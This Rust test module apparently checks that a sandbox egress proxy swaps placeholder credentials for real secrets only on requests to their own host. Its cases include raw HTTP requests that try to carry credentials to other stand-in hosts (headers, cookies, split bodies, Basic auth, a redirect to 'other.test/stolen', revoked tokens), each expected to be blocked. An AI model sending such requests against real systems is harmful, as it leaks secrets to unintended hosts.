//! Stand-ins where they are not for: other hosts, other credentials' hosts, plain text, and after their time.

use base64::Engine as _;
use base64::engine::general_purpose::STANDARD as BASE64;

use super::super::arena::{ArenaCage, EgressArena, ample_ledger};
use super::super::case::EgressControl::Other;
use super::super::case::{EgressCase, case_verdict, require_control};
use super::super::policies::PolicyPreset::Strict;
use crate::report::AttackVerdict;

const API: &[&str] = &[
    "connect:api.test:443",
    "tls:api.test",
    r"say:GET /fine HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {api}\r\n\r\n",
    "hear",
];
const LOOK: &[&str] =
    &["connect:look.test:443", "tls:look.test", r"say:GET /public/x HTTP/1.1\r\nHost: look.test\r\n\r\n", "hear"];
const PLAIN: &[&str] = &["door", r"say:GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\n\r\n", "hear"];
const API_PLAIN: &[&str] = &["door", r"say:GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\n\r\n", "hear"];
const GIT: &[&str] = &["connect:git.test:443", "tls:git.test", r"say:GET / HTTP/1.1\r\nHost: git.test\r\n\r\n", "hear"];
const ROUTE: &[&str] =
    &["door", r"say:GET /r/anthropic/v1/models HTTP/1.1\r\nHost: x\r\nX-Api-Key: {model}\r\n\r\n", "hear"];

/// A stand-in in a line of a request to a host that it is not for.
macro_rules! astray {
    ($($id:literal $name:literal $host:literal $path:literal $line:literal $fine:expr,)*) => {
        &[$(
            EgressCase::blocked($id, $name,
                &[concat!("connect:", $host, ":443"), concat!("tls:", $host),
                    concat!("say:GET ", $path, r" HTTP/1.1\r\nHost: ", $host, r"\r\n", $line, r"\r\n\r\n"), "hear"],
                "HTTP/1.1 403", Other(Strict, $fine)),
        )*]
    };
}

pub(super) const WRONG_HOST: &[EgressCase] = astray![
    "PC-02.header" "a stand-in to a host that is looked into" "look.test" "/public/x" "X-Api-Key: {api}" LOOK,
    "PC-02.bearer" "the same as a bearer" "look.test" "/public/x" "Authorization: Bearer {model}" LOOK,
    "PC-02.odd" "the same in a header nobody knows" "look.test" "/public/x" "X-Notes: so {api} it is" LOOK,
    "PC-02.cookie" "the same in a cookie" "look.test" "/public/x" "Cookie: a={git}" LOOK,
    "PC-02.query" "the same in the address" "look.test" "/public/x?{api}" "X-A: b" LOOK,
    "PC-02.path" "the same in the path" "look.test" "/public/{api}" "X-A: b" LOOK,
    "PC-02.high" "the same beside a byte that is no text" "look.test" "/public/x" r"X-Notes: {api}\xff" LOOK,
    "PC-02.agent" "the same in the name of the program" "look.test" "/public/x" "User-Agent: {model}" LOOK,
    "PC-03.api-git" "a stand-in to the host of another" "git.test" "/" "Authorization: Bearer {api}" GIT,
    "PC-03.git-api" "the other way round" "api.test" "/" "Authorization: Bearer {git}" API,
    "PC-03.model-api" "the model's stand-in to another host" "api.test" "/" "X-Api-Key: {model}" API,
    "PC-03.both" "two stand-ins in one request" "api.test" "/" r"Authorization: Bearer {api}\r\nX-Api-Key: {git}" API,
    "PC-03.beside" "a stand-in beside the right one" "api.test" "/?{model}" "Authorization: Bearer {api}" API,
];

pub(super) const CASES: &[EgressCase] = &[
    EgressCase::blocked(
        "PC-02.plain",
        "a stand-in in plain text",
        &["door", r"say:GET http://plain.test/ HTTP/1.1\r\nHost: plain.test\r\nX-Api-Key: {api}\r\n\r\n", "hear"],
        "HTTP/1.1 403",
        Other(Strict, PLAIN),
    ),
    EgressCase::blocked(
        "PC-03.route",
        "a host's stand-in to a model",
        &["door", r"say:GET /r/anthropic/v1/models HTTP/1.1\r\nHost: x\r\nX-Api-Key: {api}\r\n\r\n", "hear"],
        "HTTP/1.1 401",
        Other(Strict, ROUTE),
    ),
    EgressCase::blocked(
        "PC-03.route-both",
        "a host's stand-in beside the model's",
        &[
            "door",
            r"say:GET /r/anthropic/v1/models HTTP/1.1\r\nHost: x\r\nX-Api-Key: {model}\r\nX-A: {git}\r\n\r\n",
            "hear",
        ],
        "HTTP/1.1 401",
        Other(Strict, ROUTE),
    ),
    EgressCase::blocked(
        "PC-11.absolute",
        "a stand-in to its own host without TLS",
        &[
            "door",
            r"say:GET http://api.test/ HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {api}\r\n\r\n",
            "hear",
        ],
        "HTTP/1.1 403",
        Other(Strict, API_PLAIN),
    ),
    EgressCase::blocked(
        "PC-11.tunnel",
        "the same in a tunnel",
        &[
            "connect:api.test:80",
            r"say:GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {api}\r\n\r\n",
            "hear",
        ],
        "HTTP/1.1 403",
        Other(Strict, API_PLAIN),
    ),
    EgressCase::blocked(
        "PC-11.named",
        "the same, as if there were no proxy",
        &["name:api.test:80", r"say:GET / HTTP/1.1\r\nHost: api.test\r\nAuthorization: Bearer {api}\r\n\r\n", "hear"],
        "HTTP/1.1 403",
        Other(Strict, API_PLAIN),
    ),
    EgressCase::custom("PC-02.opaque", "a stand-in to a host nobody looks into", |g| Box::pin(opaque(g))),
    EgressCase::custom("PC-02.body", "a stand-in in a body", |g| Box::pin(body(g))),
    EgressCase::custom("PC-12.redirect", "a redirect to another host", |g| Box::pin(redirect(g))),
    EgressCase::custom("PC-19.basic", "a stand-in as a password", |g| Box::pin(basic(g))),
    EgressCase::custom("PC-19.other", "a password to a host it is not for", |g| Box::pin(other_password(g))),
    EgressCase::custom("PC-21.revoked", "a stand-in after its time", |g| Box::pin(revoked(g))),
    EgressCase::custom("PC-21.other", "a stand-in of another sandbox", |g| Box::pin(other_cage(g))),
    EgressCase::custom("PC-21.stripped", "credentials of the caller's own beside the right one", |g| {
        Box::pin(stripped(g))
    }),
    EgressCase::custom("PC-21.hop", "a header that asks to lose the credential", |g| Box::pin(hop_by_hop_header(g))),
];

fn get(host: &str, path: &str, line: &str) -> [String; 4] {
    [
        format!("connect:{host}:443"),
        format!("tls:{host}"),
        format!(r"say:GET {path} HTTP/1.1\r\nHost: {host}\r\n{line}\r\n\r\n"),
        "hear".to_owned(),
    ]
}

/// Shows that a stand-in becomes the real one where it is for.
async fn require_substitution(ground: &EgressArena, cage: &ArenaCage) -> Result<(), AttackVerdict> {
    let (told, happened) = ground.run_attack(cage, API).await?;
    require_control(told, happened.received(ground.secret("api")) && !happened.received(&cage.phantom("api")))
}

fn holds_a_secret(ground: &EgressArena, happened: &super::super::fake_network::NetworkTrace) -> bool {
    ground.secrets().any(|secret| {
        ralph_core::redact::encodings(secret).iter().any(|form| happened.received(form)) || happened.received(secret)
    })
}

async fn opaque(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    require_substitution(ground, &cage).await?;
    for line in ["Authorization: Bearer {api}", "X-Api-Key: {model}", "Authorization: Bearer {git}"] {
        let (told, happened) = ground.run_attack(&cage, &get("other.test", "/", line)).await?;
        require_control(told, !happened.messages.is_empty())?;
        if holds_a_secret(ground, &happened) {
            return case_verdict(true, happened.summary());
        }
    }
    case_verdict(false, "")
}

/// What is on its way to the wrong place in a body is cut, in one piece and in two.
async fn body(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    let phantom = cage.phantom("git");
    let (one, two) = phantom.split_at(phantom.len() / 2);
    let head = |length: usize| format!(r"say:POST / HTTP/1.1\r\nHost: api.test\r\nContent-Length: {length}\r\n\r\n");
    let start = ["connect:api.test:443".to_owned(), "tls:api.test".to_owned()];
    let whole = vec![head(phantom.len()), format!("say:{phantom}"), "hear".to_owned()];
    let halves =
        vec![head(phantom.len()), format!("say:{one}"), "pause:30".to_owned(), format!("say:{two}"), "hear".to_owned()];
    let fine = vec![head(5), "say:hello".to_owned(), "hear".to_owned()];
    for words in [whole, halves] {
        let words: Vec<String> = start.iter().cloned().chain(words).collect();
        let (_, happened) = ground.run_attack(&cage, &words).await?;
        if happened.received(&phantom) || holds_a_secret(ground, &happened) {
            return case_verdict(true, happened.summary());
        }
    }
    let words: Vec<String> = start.into_iter().chain(fine).collect();
    let (told, happened) = ground.run_attack(&cage, &words).await?;
    require_control(told, happened.received("hello"))?;
    case_verdict(false, "")
}

/// The proxy follows no redirect, and whoever does carries a stand-in.
async fn redirect(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    let line = "Authorization: Bearer {api}";
    let (told, happened) = ground.run_attack(&cage, &get("api.test", "/redirect", line)).await?;
    require_control(&told, told.contains("https://other.test/stolen") && happened.received(ground.secret("api")))?;
    if happened.dials.len() != 1 {
        return case_verdict(true, happened.summary());
    }
    let (told, happened) = ground.run_attack(&cage, &get("other.test", "/stolen", line)).await?;
    require_control(told, happened.received("/stolen"))?;
    case_verdict(holds_a_secret(ground, &happened), happened.summary())
}

fn password(cage: &ArenaCage, short: &str) -> String {
    format!("Authorization: Basic {}", BASE64.encode(format!("x:{}", cage.phantom(short))))
}

/// A password is put in anew, and only as the password.
async fn basic(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    let (told, happened) = ground.run_attack(&cage, &get("git.test", "/", &password(&cage, "git"))).await?;
    let want = BASE64.encode(format!("x:{}", ground.secret("git")));
    require_control(told, happened.received(&want))?;
    case_verdict(happened.received(&cage.phantom("git")), happened.summary())
}

async fn other_password(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    for (host, short) in [("git.test", "api"), ("api.test", "git"), ("look.test", "git"), ("git.test", "model")] {
        let (told, happened) = ground.run_attack(&cage, &get(host, "/public/x", &password(&cage, short))).await?;
        if !happened.is_empty() {
            return case_verdict(true, format!("{host} {short}: {}", happened.summary()));
        }
        require_control(&told, told.contains("HTTP/1.1 403"))?;
    }
    let (told, happened) = ground.run_attack(&cage, &get("git.test", "/", &password(&cage, "git"))).await?;
    require_control(told, !happened.messages.is_empty())?;
    case_verdict(false, "")
}

async fn revoked(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.new_cage(Strict, ample_ledger()).await?;
    let words: Vec<Vec<String>> = vec![
        API.iter().map(ToString::to_string).collect(),
        ROUTE.iter().map(ToString::to_string).collect(),
        get("git.test", "/", &password(&cage, "git")).into(),
    ];
    for words in &words {
        let (told, happened) = ground.run_attack(&cage, words).await?;
        require_control(told, !happened.messages.is_empty())?;
    }
    drop(super::super::fake_network::lock(&cage.pass).take());
    let mut verdict = case_verdict(false, "");
    for words in &words {
        let (told, happened) = ground.run_attack(&cage, words).await?;
        if !happened.messages.is_empty() || !(told.contains("HTTP/1.1 401") || told.contains("HTTP/1.1 403")) {
            verdict = case_verdict(true, format!("{} and was told {told}", happened.summary()));
        }
    }
    let _ = cage.sandbox.destroy().await;
    verdict
}

/// A stand-in is worth nothing but at the doors it was made for.
async fn other_cage(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let (cage, other) = (ground.shared_cage(Strict).await?, ground.new_cage(Strict, ample_ledger()).await?);
    require_substitution(ground, &cage).await?;
    let mut verdict = case_verdict(false, "");
    let line = |short: &str| format!("Authorization: Bearer {}", cage.phantom(short));
    let route =
        format!(r"say:GET /r/anthropic/v1/models HTTP/1.1\r\nHost: x\r\nX-Api-Key: {}\r\n\r\n", cage.phantom("model"));
    for words in [
        get("api.test", "/", &line("api")).to_vec(),
        get("git.test", "/", &password(&cage, "git")).to_vec(),
        vec!["door".to_owned(), route, "hear".to_owned()],
    ] {
        let (_, happened) = ground.run_attack(&other, &words).await?;
        if holds_a_secret(ground, &happened) {
            verdict = case_verdict(true, happened.summary());
        }
    }
    let _ = other.sandbox.destroy().await;
    verdict
}

/// What a client adds by way of credentials does not reach the host beside the one that is lent.
async fn stripped(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    let lines = r"Authorization: Bearer {api}\r\nX_Api_Key: mine-1\r\nx-api-key: mine-2\r\nX.Auth.Token: mine-3\r\nCookie: mine-4\r\nProxy-Authorization: Basic mine-5\r\nPrivate_Token: mine-6\r\nX-Kept: kept";
    let (told, happened) = ground.run_attack(&cage, &get("api.test", "/", lines)).await?;
    require_control(told, happened.received("kept") && happened.received(ground.secret("api")))?;
    case_verdict(happened.received("mine-"), happened.messages.first().map_or("", |heard| &heard.text))
}

/// A client cannot name the credential as one of its connection's own headers.
async fn hop_by_hop_header(ground: &EgressArena) -> Result<AttackVerdict, AttackVerdict> {
    let cage = ground.shared_cage(Strict).await?;
    let lines = r"Authorization: Bearer {api}\r\nConnection: authorization, host, content-length";
    let (_, happened) = ground.run_attack(&cage, &get("api.test", "/", lines)).await?;
    require_substitution(ground, &cage).await?;
    // Losing the stand-in is the client's own loss; sending it on would be ours.
    case_verdict(happened.received(&cage.phantom("api")) || !happened.received("host: api.test"), happened.summary())
}
